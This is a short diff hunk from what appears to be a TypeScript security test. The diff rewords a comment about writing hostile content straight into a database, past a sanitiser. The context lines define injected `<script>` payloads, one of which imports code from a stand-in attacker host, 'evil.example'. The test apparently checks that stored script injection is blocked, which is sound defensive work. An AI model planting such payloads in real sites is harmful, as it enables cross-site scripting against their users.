@@ -32,7 +32,7 @@ async function open(path: string) {
 }
 
 const injected = ['window.evil = 1', 'import "https://evil.example/x.js"', 'window.evil = "&<>"']
-/** As if it had come past the cleaner: into the database by another way. */
+/** The test writes it to the database directly, past the cleaner. */
 const hostile = [
   ...injected.map((code) => `<script>${code}</script>`),
   `<script nonce="">${injected[0]}</script>`,
